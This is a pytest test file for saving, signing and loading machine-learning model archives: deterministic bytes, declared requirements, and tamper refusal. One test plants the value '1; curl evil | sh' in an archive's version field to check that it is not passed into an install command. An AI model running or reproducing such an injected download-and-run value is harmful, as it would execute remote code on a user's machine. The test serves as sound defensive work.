"""Model files: what they say that they need, their bytes, their signature."""

import json
import sys
import zipfile

import numpy as np
import pandas as pd
import pytest
import skops.io as sio
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression

from stakes.compare import fit_model, load_model, model_versions, requirements_of, save_model
from stakes.compare._archive import SEAL, reseal, unseal

C = [[0.0, 1.0], [5.0, 0.0]]
KEY = b"a secret of the bank"


def loans(n=120):
    rng = np.random.default_rng(0)
    X = pd.DataFrame({"age": rng.normal(size=n), "job": rng.choice(["cook", "smith", "baker"], n)})
    return X, (X["age"] + (X["job"] == "cook") + rng.normal(size=n) > 0.5).to_numpy(dtype=int)


def fitted(method, **options):
    X, y = loans()
    return fit_model(X, y, method, cost_matrix=C, **options)


def boosted(library):
    module = pytest.importorskip(library)
    kinds = {"lightgbm": "LGBMClassifier", "xgboost": "XGBClassifier"}
    few = {"n_estimators": 3, "n_jobs": 1}
    return fitted(getattr(module, kinds[library])(**few))


MODELS = {
    "tree": lambda: fitted("tree"),
    "calibrated": lambda: fitted("calibrated"),
    "forest of scikit-learn": lambda: fitted(RandomForestClassifier(3, random_state=0)),
    "boosted_cost": lambda: fitted("boosted_cost"),
    "lightgbm": lambda: boosted("lightgbm"),
    "xgboost": lambda: boosted("xgboost"),
}


@pytest.fixture(params=MODELS, scope="module")
def model(request):
    return MODELS[request.param]()


@pytest.fixture
def path(tmp_path):
    return tmp_path / "m.skops"


def about(path):
    with zipfile.ZipFile(path) as archive:
        return json.loads(archive.read("about.json"))


def test_saving_twice_gives_the_same_bytes(model, path, tmp_path):
    other = tmp_path / "other.skops"
    save_model(model, path)
    save_model(model, other)
    assert path.read_bytes() == other.read_bytes()
    pd.testing.assert_frame_equal(load_model(path).decide(loans()[0]), model.decide(loans()[0]))


def test_every_package_whose_types_a_file_holds_is_in_its_requirements(model, path):
    save_model(model, path)
    types = sio.get_untrusted_types(data=unseal(path.read_bytes()))
    roots = {name.partition(".")[0] for name in types} - {"sklearn"}
    roots -= set(sys.stdlib_module_names)
    lines = requirements_of(about(path)["versions"])
    assert lines == requirements_of(model_versions(model))
    assert roots | {"scikit-learn", "numpy", "skops"} <= {
        line.partition("==")[0] for line in lines
    }
    if "booster_" in vars(model.estimator):  # what is kept as bytes has no type
        assert any(line.startswith("xgboost==") for line in lines)


def test_a_model_of_plain_parts_asks_for_nothing_else(path):
    X = loans()[0][["age"]]
    model = fit_model(X, loans()[1], LogisticRegression(), cost_matrix=C)
    names = {line.partition("==")[0] for line in requirements_of(model_versions(model))}
    assert names == {"stakes", "numpy", "scikit-learn", "skops"}


def test_a_package_that_is_not_installed_is_named_with_its_install_line(path, monkeypatch):
    lightgbm = pytest.importorskip("lightgbm")
    save_model(boosted("lightgbm"), path)
    monkeypatch.setitem(sys.modules, "lightgbm", None)
    line = (
        f'needs lightgbm, which is not installed: pip install "lightgbm=={lightgbm.__version__}"'
    )
    with pytest.raises(ImportError) as caught:
        load_model(path)
    assert str(caught.value) == f"{path} {line}"


def test_what_a_file_says_of_versions_is_not_put_into_a_command(path, monkeypatch):
    pytest.importorskip("lightgbm")
    save_model(boosted("lightgbm"), path)
    evil = about(path)
    evil["versions"]["lightgbm"] = "1; curl evil | sh"
    rewrite(path, {"about.json": json.dumps(evil).encode()})
    monkeypatch.setitem(sys.modules, "lightgbm", None)
    with pytest.raises(ImportError, match='pip install "lightgbm"$'):
        load_model(path)


def rewrite(path, changes):
    """Change members of an archive, as somebody would who can seal it again."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
        comment = archive.comment
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (members | changes).items():
            archive.writestr(zipfile.ZipInfo(name), content)
        archive.comment = comment
    path.write_bytes(reseal(path.read_bytes()))


def test_a_signed_file_is_read_with_its_key_and_without_asking_for_one(path):
    model = fitted("tree")
    save_model(model, path, key=KEY)
    X = loans()[0]
    for given in ({"key": KEY}, {"key": KEY.decode()}, {}):
        assert load_model(path, **given).predict(X).tolist() == model.predict(X).tolist()
    again = path.with_name("again.skops")
    save_model(model, again, key=KEY)
    assert again.read_bytes() == path.read_bytes()


def test_a_file_that_was_not_signed_with_the_key_is_refused(path):
    save_model(fitted("tree"), path, key=KEY)
    with pytest.raises(ValueError, match="not signed with this key, or has been changed"):
        load_model(path, key=b"another")
    rewrite(path, {"about.json": b"{}"})  # with a checksum that fits
    assert load_model(path).method == "tree"
    with pytest.raises(ValueError, match="not signed with this key, or has been changed"):
        load_model(path, key=KEY)
    save_model(fitted("tree"), path)
    with pytest.raises(ValueError, match="it is not signed, and a key was given"):
        load_model(path, key=KEY)
    with pytest.raises(ValueError, match="not empty"):
        save_model(fitted("tree"), path, key="")


def test_every_byte_of_a_signed_file_is_signed(path):
    save_model(fitted("constant"), path, key=KEY)
    whole = path.read_bytes()
    ends = len(whole) - 64 - len(SEAL)  # after it stands the checksum
    for place in np.random.default_rng(0).integers(0, ends, size=60):
        changed = bytearray(whole)
        changed[place] ^= 1
        path.write_bytes(reseal(bytes(changed)))
        with pytest.raises(ValueError, match="refused|cannot be read"):
            load_model(path, key=KEY)
